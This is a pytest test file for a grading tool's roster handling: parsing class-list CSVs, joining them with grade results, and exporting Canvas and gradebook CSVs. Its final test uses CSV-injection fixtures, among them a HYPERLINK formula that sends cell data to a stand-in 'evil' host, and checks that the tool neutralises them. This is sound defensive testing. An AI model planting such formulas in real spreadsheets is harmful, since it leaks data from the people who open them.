"""grader.roster: the class list joined with the gradebook, and the Canvas export; the gradebook's setup columns.

All fast: hand-written rosters (a byte-order mark, CRLF, quoted names with commas and quotes,
semicolons, broken files) and hand-written results; the CLI with a fake batch.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from grader import batch, report, roster
from grader.results import CheckResult, GradeResult
from grader.roster import Entry, RosterError, Student, join, parse_columns, read_roster, write_canvas, write_joined

POINTS = {"execution": 10, "dataset": 15, "output_shape": 10, "hdf5": 20, "export": 10, "loss": 20, "similarity": 15}
MODE = "pinned (torch AVX2, MKL CNR COMPATIBLE)"


def _result(sid: str, lost: dict[str, float] | None = None, **changes) -> GradeResult:
    lost = lost or {}
    fields = dict(
        submission_id=sid, notebook_sha256="0" * 64, epochs=200, kit_version="0.1.0", numerics=MODE,
        calibration_source="shipped", config_fingerprint="e3a50bd2646f6550",
        checks=[CheckResult(n, p - lost.get(n, 0), p, "ok" if n not in lost else "not quite")
                for n, p in POINTS.items()],
    )
    fields.update(changes)
    return GradeResult(**fields)


def _error(sid: str) -> GradeResult:
    return _result(sid, lost=dict(POINTS), config_fingerprint=batch.ERROR_FINGERPRINT,
                   flags=["grader error: RuntimeError: boom"])


def _write(out: Path, *results: GradeResult) -> None:
    for r in results:
        (out / r.submission_id).mkdir(parents=True, exist_ok=True)
        report.write_results(r, out / r.submission_id / report.RESULTS)


def _roster_file(tmp_path: Path, text: str | bytes, name: str = "class.csv") -> Path:
    path = tmp_path / name
    if isinstance(text, str):
        path.write_text(text, encoding="utf-8", newline="")
    else:
        path.write_bytes(text)
    return path


# --- reading a roster ------------------------------------------------------------------------


def test_a_roster_from_excel_reads_exactly(tmp_path: Path) -> None:
    path = _roster_file(tmp_path, (
        "\ufeffID , Name,E-mail,Email,Section\r\n"          # BOM, CRLF, spaces and case in the header
        "ann,\"Lee, Ann\",x,ann@uni.edu,A1\r\n"
        "\r\n"                                              # a blank line
        "bob,\"Bob \"\"the Builder\"\" O'Neil\",,bob@uni.edu,A2\r\n"
        "  cat  ,\"Multi\r\nline\",,cat@uni.edu,\r\n"       # a quoted line break: cat's row starts on line 5
        "dan,Dan,,,B\r\n"
    ))
    r = read_roster(path)
    assert r.path == path
    assert r.students == (
        Student("ann", "Lee, Ann", "ann@uni.edu", "A1", 2),
        Student("bob", 'Bob "the Builder" O\'Neil', "bob@uni.edu", "A2", 4),
        Student("cat", "Multi\r\nline", "cat@uni.edu", "", 5),
        Student("dan", "Dan", "", "B", 7),
    )


def test_column_names_are_configurable(tmp_path: Path) -> None:
    path = _roster_file(tmp_path, "student_id;full_name;group\n42;Ann Lee;G1\n43;Bo;G2\n")  # semicolons
    columns = parse_columns("id=student_id, name=Full_Name ,email=,section=group")
    assert columns == {"id": "student_id", "name": "Full_Name", "email": "", "section": "group"}
    assert read_roster(path, columns).students == (Student("42", "Ann Lee", "", "G1", 2),
                                                   Student("43", "Bo", "", "G2", 3))
    assert parse_columns(None) == parse_columns("") == {"id": "id", "name": "name", "email": "email"}
    sections = _roster_file(tmp_path, "id,name,email,Section\nann,Ann,a@x,S1\n", "sections.csv")
    assert read_roster(sections).students[0].section == "S1"  # a section column is used where there is one
    assert read_roster(sections, parse_columns("section=")).students[0].section == ""  # unless mapped to none


@pytest.mark.parametrize("spec, message", [
    ("id", "--roster-columns: 'id' is not FIELD=COLUMN (for example id=student_id,name=full_name,email=mail)"),
    ("login=user", "--roster-columns: unknown field 'login' (the fields are id, name, email, section)"),
    ("id=", "--roster-columns: id needs a column (the id is how submissions are matched)"),
    ("name=a,name=b", "--roster-columns: name is given twice"),
])
def test_bad_column_mappings_are_refused(spec: str, message: str) -> None:
    with pytest.raises(RosterError) as exc:
        parse_columns(spec)
    assert str(exc.value) == message


@pytest.mark.parametrize("text, message", [
    ("id,name\nann,Ann\n",
     "line 1: no column 'email' for the email (the columns are: 'id', 'name'); name it with --roster-columns "
     "email=COLUMN, or email= if the roster has none"),
    ("sid,name,email\nann,Ann,a@x\n",
     "line 1: no column 'id' for the id (the columns are: 'sid', 'name', 'email'); name it with --roster-columns "
     "id=COLUMN"),
    ("id,name,email\nann,Ann,a@x\nbob,Bob,b@x\nann,Ann again,c@x\n", "line 4: the id 'ann' is already on line 2"),
    ("id,name,email\nann,Lee, Ann,a@x\n",
     "line 2: 4 fields where the header has 3: a name with a comma must be in double quotes"),
    ("id,name,email\nann,Ann\n", "line 2: 2 fields where the header has 3"),
    ("id,name,email\n ,Nobody,n@x\n", "line 2: the id ('id') is empty"),
    ("id,name,email,Email\nann,Ann,a@x,a@y\n", "line 1: the column 'email' appears 2 times"),
    ("id,name,email\nann,\"Ann,a@x\n", "line 2: not valid CSV: unexpected end of data"),
    ("id,name,email\n\n", "no students, only the header line"),
    ("\n\n", "empty: a roster needs a header line (for example id,name,email) and a line per student"),
])
def test_broken_rosters_say_file_line_and_what(tmp_path: Path, text: str, message: str) -> None:
    path = _roster_file(tmp_path, text)
    with pytest.raises(RosterError) as exc:
        read_roster(path)
    sep = ", " if message.startswith("line") else ": "
    assert str(exc.value) == f"{path}{sep}{message}"


def test_a_roster_that_is_not_utf8_says_where(tmp_path: Path) -> None:
    path = _roster_file(tmp_path, "id,name,email\nann,Ann,a@x\nzoe,Zoë,z@x\n".encode("latin-1"))
    with pytest.raises(RosterError) as exc:
        read_roster(path)
    assert str(exc.value) == (f"{path}, line 3: not UTF-8 text (byte 0xeb): save the roster as 'CSV UTF-8' (Excel) "
                              "or UTF-8 text")
    with pytest.raises(RosterError, match=re.escape(f"{tmp_path / 'nope.csv'}: cannot read the roster: ")):
        read_roster(tmp_path / "nope.csv")


# --- the join ----------------------------------------------------------------------------------


def _class(tmp_path: Path) -> roster.Roster:
    return read_roster(_roster_file(tmp_path, (
        "id,name,email,section\n"
        "ann,\"Lee, Ann\",ann@uni.edu,A1\n"
        "bob,Bob,bob@uni.edu,A1\n"
        "cat,Cat \"Kit\" Katz,cat@uni.edu,A2\n"
        "dan,Dan,dan@uni.edu,A2\n"
    )))


def _graded() -> list[GradeResult]:
    return [
        _result("ann"),
        _result("cat", lost={"loss": 7.5, "similarity": 15}, flags=["budget not set (no `parameters` cell)"]),
        _error("dan"),
        _result("zed", lost={"hdf5": 20}),
        _result("amy", lost={"execution": 10}),
    ]


def test_join_lists_the_missing_and_the_strays(tmp_path: Path) -> None:
    entries = join(_graded(), _class(tmp_path))
    assert entries == [
        Entry("ann", "Lee, Ann", "ann@uni.edu", "A1", 100.0, 100.0, [], True, True),
        Entry("bob", "Bob", "bob@uni.edu", "A1", None, None, ["no submission"], True, False),
        Entry("cat", 'Cat "Kit" Katz', "cat@uni.edu", "A2", 77.5, 100.0,
              ["budget not set (no `parameters` cell)"], True, True),
        Entry("dan", "Dan", "dan@uni.edu", "A2", None, None, ["grader error: RuntimeError: boom"], True, True),
        Entry("amy", "", "", "", 90.0, 100.0, ["not on the roster"], False, True),
        Entry("zed", "", "", "", 80.0, 100.0, ["not on the roster"], False, True),
    ]
    assert roster.summary(entries) == ("4 on the roster: 3 with a submission, 1 without; "
                                       "2 submission(s) not on the roster: amy, zed")
    assert _error("x").is_grader_error  # how a grader error is told from a grade (results.ERROR_FINGERPRINT)


def test_join_carries_the_class_flags(tmp_path: Path) -> None:
    twins = [_result(sid, measurements={"weights_sha256": "aa"}) for sid in ("ann", "bob")]
    flags = {e.id: e.flags for e in join(twins, _class(tmp_path))}
    assert flags == {"ann": ["identical exported weights as bob"], "bob": ["identical exported weights as ann"],
                     "cat": ["no submission"], "dan": ["no submission"]}


def test_roster_csv_is_exact(tmp_path: Path) -> None:
    path = write_joined(join(_graded(), _class(tmp_path)), tmp_path / roster.ROSTER)
    assert path.read_text() == (
        "id,name,email,section,score,max_score,flags\n"
        'ann,"Lee, Ann",ann@uni.edu,A1,100,100,\n'
        "bob,Bob,bob@uni.edu,A1,,,no submission\n"
        'cat,"Cat ""Kit"" Katz",cat@uni.edu,A2,77.5,100,budget not set (no `parameters` cell)\n'
        "dan,Dan,dan@uni.edu,A2,,,grader error: RuntimeError: boom\n"
        "amy,,,,90,100,not on the roster\n"
        "zed,,,,80,100,not on the roster\n"
    )


# --- Canvas ------------------------------------------------------------------------------------


def test_canvas_csv_is_what_the_gradebook_import_reads(tmp_path: Path) -> None:
    path = write_canvas(join(_graded(), _class(tmp_path)), tmp_path / roster.CANVAS)
    assert path.read_text() == (
        "Student,ID,SIS User ID,SIS Login ID,Section,HW8 problem 2\n"
        "Points Possible,,,,,100\n"
        '"Lee, Ann",,ann,ann@uni.edu,A1,100\n'
        "Bob,,bob,bob@uni.edu,A1,\n"
        '"Cat ""Kit"" Katz",,cat,cat@uni.edu,A2,77.5\n'
        "Dan,,dan,dan@uni.edu,A2,\n"
    )
    rows = list(csv.reader(io.StringIO(path.read_text())))
    # Canvas's importer (GradebookImporter#header?): Student, ID, then SIS User ID and SIS Login ID, the
    # student columns ending in Section; a row starting with "Points Possible"; then one row per student.
    head = rows[0]
    assert "Student" in head[0] and "ID" in head[1] and head[2:4] == ["SIS User ID", "SIS Login ID"]
    assert "Section" in head[4] and head[5:] == ["HW8 problem 2"]
    assert "Points Possible" in rows[1][0]
    assert all(len(row) == 6 for row in rows)
    assert [row[2] for row in rows[2:]] == ["ann", "bob", "cat", "dan"]  # strays are not exported


def test_canvas_assignment_title_and_points(tmp_path: Path) -> None:
    entries = join([_result("ann")], _class(tmp_path))
    path = write_canvas(entries, tmp_path / "c.csv", assignment=" HW8, problem 2 (4711) ", points_possible=50)
    assert path.read_text().splitlines()[:2] == [
        'Student,ID,SIS User ID,SIS Login ID,Section,"HW8, problem 2 (4711)"', "Points Possible,,,,,50"]


def test_canvas_export_refuses_what_it_cannot_say(tmp_path: Path) -> None:
    cls = _class(tmp_path)
    mixed = [_result("ann"), _result("bob", checks=[CheckResult("execution", 10, 90, "ok")])]
    with pytest.raises(RosterError, match=re.escape("graded out of different totals (90, 100): regrade them")):
        write_canvas(join(mixed, cls), tmp_path / "c.csv")
    with pytest.raises(RosterError, match="no student on the roster has a graded submission"):
        write_canvas(join([_result("zed")], cls), tmp_path / "c.csv")
    with pytest.raises(RosterError, match="needs a title"):
        write_canvas(join([_result("ann")], cls), tmp_path / "c.csv", assignment="  ")
    assert not (tmp_path / "c.csv").exists()


# --- the gradebook's setup columns -----------------------------------------------------------------


def test_gradebook_says_how_each_was_graded(tmp_path: Path) -> None:
    _write(tmp_path, _result("ann"), _result("bob", epochs=20, calibration_source="local", kit_version="0.2.0"))
    text = report.write_gradebook(tmp_path).read_text()
    assert text == (
        "id,score,max_score,execution,dataset,output_shape,hdf5,export,loss,similarity,"
        "epochs,kit_version,numerics,calibration,most_similar,flags\n"
        f'ann,100,100,10,15,10,20,10,20,15,200,0.1.0,"{MODE}",shipped,,\n'
        f'bob,100,100,10,15,10,20,10,20,15,20,0.2.0,"{MODE}",local,,\n'
    )


# --- the CLI ------------------------------------------------------------------------------------


def _fake_batch(results: list[GradeResult], calls: list):
    def fake(paths, out, config, epochs, *args, **kwargs):
        calls.append(paths)
        out = Path(out)
        _write(out, *results)
        gradebook = report.write_gradebook(out)
        from grader import overview

        overview.write_overview(out)
        return batch.BatchSummary([r.submission_id for r in results], [], {}, gradebook, "")
    return fake


def test_cli_writes_roster_and_canvas(tmp_path: Path, monkeypatch, capsys) -> None:
    from grader import cli

    calls: list = []
    monkeypatch.setattr(batch, "grade_batch", _fake_batch(_graded(), calls))
    cls = _roster_file(tmp_path, "student_id,full_name,mail\nann,\"Lee, Ann\",ann@uni.edu\nbob,Bob,bob@uni.edu\n")
    out = tmp_path / "out"
    code = cli.main(["grade", str(tmp_path / "subs"), "--out", str(out), "--roster", str(cls),
                     "--roster-columns", "id=student_id,name=full_name,email=mail", "--export", "canvas",
                     "--canvas-assignment", "HW8 (123)"])
    printed = capsys.readouterr().out
    assert code == 0 and len(calls) == 1
    assert ("roster: 2 on the roster: 1 with a submission, 1 without; 4 submission(s) not on the roster: "
            f"amy, cat, dan, zed -> {out / 'roster.csv'}") in printed
    assert (out / "roster.csv").read_text().splitlines()[1:3] == ['ann,"Lee, Ann",ann@uni.edu,,100,100,',
                                                                 "bob,Bob,bob@uni.edu,,,,no submission"]
    assert (out / "canvas.csv").read_text() == ("Student,ID,SIS User ID,SIS Login ID,Section,HW8 (123)\n"
                                                "Points Possible,,,,,100\n"
                                                '"Lee, Ann",,ann,ann@uni.edu,,100\n'
                                                "Bob,,bob,bob@uni.edu,,\n")
    index = (out / "index.html").read_text()  # rebuilt after the roster: it links the new files
    assert "<a href='roster.csv'>roster.csv</a>" in index and "<a href='canvas.csv'>canvas.csv</a>" in index
    assert f"overview: {out / 'index.html'}" in printed


@pytest.mark.parametrize("args, message", [
    (["--roster", "{tmp}/missing.csv"], "error: {tmp}/missing.csv: cannot read the roster: No such file or directory"),
    (["--roster", "{tmp}/bad.csv"], "error: {tmp}/bad.csv, line 1: no column 'email' for the email"),
    (["--roster", "{tmp}/bad.csv", "--roster-columns", "mail=x"], "error: --roster-columns: unknown field 'mail'"),
    (["--export", "canvas"], "error: --roster-columns and --export need --roster FILE"),
    (["--roster-columns", "id=sid"], "error: --roster-columns and --export need --roster FILE"),
])
def test_cli_refuses_a_bad_roster_before_grading(tmp_path: Path, monkeypatch, capsys, args, message) -> None:
    from grader import cli

    calls: list = []
    monkeypatch.setattr(batch, "grade_batch", _fake_batch([], calls))
    _roster_file(tmp_path, "id,name\nann,Ann\n", "bad.csv")
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    assert cli.main(["grade", str(tmp_path), "--out", str(tmp_path / "out"), *args]) == 2
    assert capsys.readouterr().err.startswith(message.replace("{tmp}", str(tmp_path)))
    assert calls == []  # nothing graded


def test_cli_export_needs_a_graded_roster_student(tmp_path: Path, monkeypatch, capsys) -> None:
    from grader import cli

    monkeypatch.setattr(batch, "grade_batch", _fake_batch([_result("zed")], []))
    cls = _roster_file(tmp_path, "id,name,email\nann,Ann,a@x\n")
    assert cli.main(["grade", str(tmp_path), "--out", str(tmp_path / "out"), "--roster", str(cls),
                     "--export", "canvas"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: no student on the roster has a graded submission: nothing to export")
    assert (tmp_path / "out" / "roster.csv").exists() and not (tmp_path / "out" / "canvas.csv").exists()


# --- CSV injection ---------------------------------------------------------------------------------


def test_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    """Names from a roster (and ids from uploads) reach Excel: =, +, -, @, tab and CR lead with a quote."""
    assert [report.spreadsheet_safe(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "", 3)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "3"]
    hostile = read_roster(_roster_file(tmp_path, (
        "id,name,email,section\n"
        'ann,"=HYPERLINK(""http://evil/?""&A1,""click"")",@ann,+A1\n'
        "-bob,-Bob,bob@uni.edu,@A1\n"
    )))
    graded = [_result("ann"), _result("-bob")]
    entries = join(graded, hostile)
    joined = write_joined(entries, tmp_path / roster.ROSTER).read_text()
    assert joined.splitlines()[1:3] == [
        'ann,"\'=HYPERLINK(""http://evil/?""&A1,""click"")",\'@ann,\'+A1,100,100,',
        "'-bob,'-Bob,bob@uni.edu,'@A1,100,100,",
    ]
    canvas = write_canvas(entries, tmp_path / roster.CANVAS).read_text().splitlines()
    assert canvas[2:] == ['"\'=HYPERLINK(""http://evil/?""&A1,""click"")",,ann,\'@ann,\'+A1,100',
                          "'-Bob,,'-bob,bob@uni.edu,'@A1,100"]
    _write(tmp_path / "out", _result("-bob"), _result("=evil"))
    rows = list(csv.reader(io.StringIO(report.write_gradebook(tmp_path / "out").read_text())))
    assert sorted(row[0] for row in rows[1:]) == ["'-bob", "'=evil"]
